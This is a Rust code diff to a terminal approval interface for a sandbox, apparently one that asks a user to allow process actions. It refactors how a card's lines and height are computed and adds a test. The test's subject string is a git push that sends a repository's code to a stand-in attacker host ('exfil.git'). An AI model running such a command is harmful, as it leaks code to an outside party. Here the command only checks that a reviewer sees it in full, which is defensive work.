@@ -495,34 +495,15 @@ impl App {
                 self.session_name(&card.socket)
             )),
         ]);
-        let mut lines = vec![
-            Line::raw(escape::if_unsafe(&q.description)),
-            Line::raw(format!(
-                "process: {} (pid {})",
-                escape::if_unsafe(&q.process),
-                q.pid
-            )),
-            Line::from(vec![
-                Span::styled(
-                    format!("{}: ", event_word(q)),
-                    Style::new().add_modifier(Modifier::BOLD),
-                ),
-                Span::raw(escape::if_unsafe(&q.subject)),
-            ]),
-        ];
-        if let Some(d) = &q.destination {
-            lines.push(Line::raw(format!(
-                "destination: {}",
-                escape::if_unsafe(&d.shown())
-            )));
-        }
         frame.render_widget(
-            Paragraph::new(lines).wrap(Wrap { trim: false }).block(
-                Block::default()
-                    .borders(Borders::ALL)
-                    .border_style(border)
-                    .title(title),
-            ),
+            Paragraph::new(card_lines(card))
+                .wrap(Wrap { trim: false })
+                .block(
+                    Block::default()
+                        .borders(Borders::ALL)
+                        .border_style(border)
+                        .title(title),
+                ),
             rect,
         );
     }
@@ -532,18 +513,42 @@ fn offers_always(card: &Card) -> bool {
     card.question.always_offered && card.question.level == Level::Yellow
 }
 
-/// Rows a card needs at `width` columns inside its border (the subject is shown whole).
-fn card_height(card: &Card, width: usize) -> u16 {
+/// The lines of a card inside its border: what is asked, by which process, about what.
+fn card_lines(card: &Card) -> Vec<Line<'static>> {
     let q = &card.question;
-    let rows = |text: &str| text.chars().count().div_ceil(width).max(1);
-    let subject = event_word(q).len() + 2 + escape::if_unsafe(&q.subject).chars().count();
-    let body = rows(&escape::if_unsafe(&q.description))
-        + subject.div_ceil(width).max(1)
-        + rows(&format!("process: {} (pid {})", q.process, q.pid))
-        + q.destination
-            .as_ref()
-            .map_or(0, |d| rows(&format!("destination: {}", d.shown())));
-    u16::try_from(body + 2).unwrap_or(u16::MAX)
+    let mut lines = vec![
+        Line::raw(escape::if_unsafe(&q.description)),
+        Line::raw(format!(
+            "process: {} (pid {})",
+            escape::if_unsafe(&q.process),
+            q.pid
+        )),
+        Line::from(vec![
+            Span::styled(
+                format!("{}: ", event_word(q)),
+                Style::new().add_modifier(Modifier::BOLD),
+            ),
+            Span::raw(escape::if_unsafe(&q.subject)),
+        ]),
+    ];
+    if let Some(d) = &q.destination {
+        lines.push(Line::raw(format!(
+            "destination: {}",
+            escape::if_unsafe(&d.shown())
+        )));
+    }
+    lines
+}
+
+/// Rows a card needs at `width` columns inside its border (the subject is shown whole): as
+/// the paragraph wraps them, by display width (a double-width character takes two columns,
+/// and a word that does not fit moves to the next row).
+fn card_height(card: &Card, width: usize) -> u16 {
+    let width = u16::try_from(width).unwrap_or(u16::MAX).max(1);
+    let rows = Paragraph::new(card_lines(card))
+        .wrap(Wrap { trim: false })
+        .line_count(width);
+    u16::try_from(rows + 2).unwrap_or(u16::MAX)
 }
 
 #[cfg(test)]
@@ -596,6 +601,31 @@ mod tests {
     /// With no session connected, an answer sent shows as the note that it could not go.
     fn sent(app: &App) -> bool {
         app.log.iter().any(|l| l.contains("cannot send the answer"))
+    }
+
+    /// A subject of double-width characters is shown whole: the card is as tall as its
+    /// text wraps in display columns (counted in characters, the end of such a push's
+    /// command, where it sends the code, fell below the card).
+    #[test]
+    fn a_subject_in_double_width_characters_is_shown_whole() {
+        let mut app = app();
+        let subject = format!(
+            "git -c user.name={} push https://example.invalid/attacker/exfil.git HEAD:refs/heads/feature",
+            "\u{ff38}".repeat(60)
+        );
+        arrive(&mut app, 1, &subject);
+        let backend = ratatui::backend::TestBackend::new(60, 40);
+        let mut terminal = ratatui::Terminal::new(backend).unwrap();
+        terminal.draw(|f| app.draw(f)).unwrap();
+        let screen: String = terminal
+            .backend()
+            .buffer()
+            .content()
+            .iter()
+            .map(|c| c.symbol())
+            .collect();
+        assert!(screen.contains("exfil.git"), "{screen}");
+        assert!(screen.contains("feature"), "{screen}");
     }
 
     /// A Yes meant for a question that times out (the sandbox knows when) never lands on
